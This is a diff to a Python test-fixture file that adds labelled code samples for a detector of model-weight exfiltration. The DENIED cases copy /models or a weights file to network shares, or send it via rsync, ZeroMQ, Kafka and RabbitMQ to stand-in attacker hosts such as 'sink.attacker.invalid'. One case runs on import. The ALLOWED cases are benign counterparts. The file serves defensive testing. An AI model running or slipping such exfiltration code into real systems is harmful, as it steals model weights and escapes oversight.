@@ -279,6 +279,48 @@ DENIED: dict[str, dict[str, str]] = {
         "    c.connect('sink.attacker.invalid', 1883)\n"
         f"    c.publish('t', open('{W}', 'rb').read())\n"
     ),
+    # 6. Weights moved to a share or a written host by a command or a written file, and
+    # sent over message buses to a written host.
+    "models-copied-to-a-share-by-cp-on-import": init(
+        "import subprocess\nsubprocess.run(['cp', '-r', '/models', '/mnt/share/x'])\n"
+    ),
+    "models-copied-to-a-share-by-cp-when-called": init(
+        "import subprocess\n"
+        "def sync():\n    subprocess.run(['cp', '-r', '/models', '/mnt/share/x'])\n"
+    ),
+    "models-rsynced-to-a-written-host-when-called": init(
+        "import subprocess\n"
+        "def sync():\n"
+        "    subprocess.run(['rsync', '-a', '/models/', 'backup.attacker.invalid:/x'])\n"
+    ),
+    "weights-copied-to-a-unc-share-when-called": init(
+        f"import shutil\ndef sync():\n    shutil.copyfile('{W}', '//fileserver/pub/m.bin')\n"
+    ),
+    "weights-written-into-a-file-on-a-share-when-called": init(
+        "def sync():\n"
+        "    with open('/mnt/share/m.bin', 'wb') as o:\n"
+        f"        o.write(open('{W}', 'rb').read())\n"
+    ),
+    "weights-pushed-to-a-written-zeromq-peer-when-called": init(
+        "import zmq\n"
+        "def sync():\n"
+        "    s = zmq.Context().socket(zmq.PUSH)\n"
+        "    s.connect('tcp://203.0.113.5:5555')\n"
+        f"    s.send(open('{W}', 'rb').read())\n"
+    ),
+    "weights-produced-to-a-written-kafka-when-called": init(
+        "from kafka import KafkaProducer\n"
+        "def sync():\n"
+        "    p = KafkaProducer(bootstrap_servers='203.0.113.5:9092')\n"
+        f"    p.send('t', open('{W}', 'rb').read())\n"
+    ),
+    "weights-published-to-a-written-rabbitmq-when-called": init(
+        "import pika\n"
+        "def sync():\n"
+        "    c = pika.BlockingConnection(pika.ConnectionParameters('sink.attacker.invalid'))\n"
+        "    c.channel().basic_publish(\n"
+        f"        exchange='', routing_key='w', body=open('{W}', 'rb').read())\n"
+    ),
 }
 
 HELD: dict[str, dict[str, str]] = {
@@ -520,6 +562,40 @@ ALLOWED: dict[str, dict[str, str]] = {
     ),
     "redis-at-a-written-host-caching-its-callers-values": init(
         "import redis\nR = redis.Redis(host='cache.example.com')\ndef put(k, v):\n    R.set(k, v)\n"
+    ),
+    "models-synced-down-from-a-bucket-when-called": init(
+        "import subprocess\n"
+        "def fetch():\n"
+        "    subprocess.run(['aws', 's3', 'sync', 's3://models-bucket/llama', '/models/llama'])\n"
+    ),
+    "build-rsynced-to-a-host-when-called": init(
+        "import subprocess\n"
+        "def deploy():\n"
+        "    subprocess.run(['rsync', '-a', 'build/', 'www.example.com:/srv/site'])\n"
+    ),
+    "models-copied-to-a-local-cache-when-called": init(
+        "import subprocess\n"
+        "def warm():\n    subprocess.run(['cp', '-r', '/models/llama', '/tmp/cache'])\n"
+    ),
+    "report-written-to-a-share-while-reading-weights": init(
+        "import json\n"
+        "def report(stats):\n"
+        f"    open('{W}', 'rb').read(16)\n"
+        "    with open('/mnt/share/report.json', 'w') as o:\n"
+        "        o.write(json.dumps(stats))\n"
+    ),
+    "weights-pushed-to-a-local-zeromq-worker": init(
+        "import zmq\n"
+        "def serve():\n"
+        "    s = zmq.Context().socket(zmq.PUSH)\n"
+        "    s.connect('tcp://127.0.0.1:5555')\n"
+        f"    s.send(open('{W}', 'rb').read())\n"
+    ),
+    "kafka-producer-sending-its-callers-events": init(
+        "import os\nfrom kafka import KafkaProducer\n"
+        "def emit(topic, event):\n"
+        "    p = KafkaProducer(bootstrap_servers=os.environ['KAFKA'])\n"
+        "    p.send(topic, event)\n"
     ),
 }
 
